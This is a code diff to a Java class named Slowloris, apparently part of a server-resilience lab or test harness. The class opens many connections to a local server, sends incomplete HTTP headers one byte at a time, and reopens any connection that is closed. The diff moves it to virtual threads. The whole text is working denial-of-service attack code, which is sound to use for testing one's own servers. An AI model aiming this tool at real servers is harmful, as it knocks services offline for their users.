@@ -8,26 +8,28 @@ import java.net.Socket;
 import java.net.StandardSocketOptions;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
 import java.util.concurrent.atomic.AtomicInteger;
-import org.jspecify.annotations.Nullable;
 
 /**
- * Clients that send the head of a request, a byte at a time and never all of it, so that each keeps a connection for nothing. Whoever
- * is hung up on comes again. Starts and stops on one thread, drips on one of its own.
+ * Clients that send the head of a request byte by byte and never complete it, so that each occupies a connection. A client whose
+ * connection is closed opens a new one. Each has a virtual thread.
  */
 final class Slowloris {
 
     private static final byte[] BEGIN =
             "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".getBytes(StandardCharsets.US_ASCII);
     private static final byte[] DRIP = {'x'};
-
     private static final Duration BETWEEN_DRIPS = Duration.ofMillis(500);
-    private static final int PATIENCE_MS = 2000;
+    private static final int CONNECT_TIMEOUT_MS = 2000;
 
     private final InetSocketAddress server;
-    private final @Nullable Socket[] clients;
+    private final int clients;
     private final AtomicInteger reopened = new AtomicInteger();
-    private @Nullable Thread dripper;
+    private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
 
     /**
      * Prepares.
@@ -37,41 +39,38 @@ final class Slowloris {
      */
     Slowloris(InetAddress server, int port, int clients) {
         this.server = new InetSocketAddress(server, port);
-        this.clients = new Socket[clients];
+        this.clients = clients;
     }
 
     /**
-     * Opens all connections, and goes on dripping.
+     * Opens all connections and starts to send.
      *
      * @throws LabFailure if one cannot be opened; then none is left open
      */
     void start() {
+        List<Socket> opened = new ArrayList<>();
         try {
-            for (int i = 0; i < clients.length; i++) {
-                clients[i] = open();
+            for (int i = 0; i < clients; i++) {
+                opened.add(open());
             }
         } catch (IOException e) {
-            close();
+            opened.forEach(Slowloris::close);
             throw new LabFailure(
-                    "cannot open %d connections to %s (%s): see ulimit -n"
-                            .formatted(clients.length, server, e.getMessage()),
+                    "cannot open %d connections to %s (%s): see ulimit -n".formatted(clients, server, e.getMessage()),
                     e);
         }
-        dripper = Thread.ofPlatform().daemon().name("slowloris").start(this::drip);
+        opened.forEach(client -> threads.execute(() -> drip(client)));
     }
 
-    /** How many connections the server has closed so far, in the place of each of which there is a new one. */
+    /** The number of connections that the server has closed and a client has opened anew. */
     int reopened() {
         return reopened.get();
     }
 
     /** Stops, and closes all connections. */
-    void stop() throws InterruptedException {
-        if (dripper != null) {
-            dripper.interrupt();
-            dripper.join();
-        }
-        close();
+    void stop() {
+        threads.shutdownNow();
+        threads.close();
     }
 
     private Socket open() throws IOException {
@@ -79,7 +78,7 @@ final class Slowloris {
         try {
             client.setTcpNoDelay(true);
             client.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
-            client.connect(server, PATIENCE_MS);
+            client.connect(server, CONNECT_TIMEOUT_MS);
             client.getOutputStream().write(BEGIN);
             return client;
         } catch (IOException e) {
@@ -88,48 +87,39 @@ final class Slowloris {
         }
     }
 
-    private void drip() {
+    private void drip(Socket first) {
+        Socket client = first;
         try {
             while (true) {
                 Thread.sleep(BETWEEN_DRIPS);
-                for (int i = 0; i < clients.length; i++) {
-                    dripOrOpen(i);
-                }
+                client = dripOrReopen(client);
             }
         } catch (InterruptedException e) {
-            // It is stopped.
+            close(client); // stopped
         }
     }
 
-    private void dripOrOpen(int i) {
+    private Socket dripOrReopen(Socket client) {
         try {
-            Socket client = clients[i];
-            if (client == null) {
-                clients[i] = open();
-                reopened.incrementAndGet();
-            } else {
-                client.getOutputStream().write(DRIP);
-            }
-        } catch (IOException e) { // The server has closed it, or takes none for now: the next round tries again.
-            close(i);
+            client.getOutputStream().write(DRIP);
+            return client;
+        } catch (IOException e) {
+            close(client);
+        }
+        try {
+            Socket again = open();
+            reopened.incrementAndGet();
+            return again;
+        } catch (IOException e) {
+            return client; // the server accepts none for now: the next round tries again
         }
     }
 
-    private void close() {
-        for (int i = 0; i < clients.length; i++) {
-            close(i);
-        }
-    }
-
-    private void close(int i) {
-        Socket client = clients[i];
-        clients[i] = null;
-        if (client != null) {
-            try {
-                client.close();
-            } catch (IOException e) {
-                // It is gone either way.
-            }
+    private static void close(Socket client) {
+        try {
+            client.close();
+        } catch (IOException e) {
+            // closed either way
         }
     }
 }
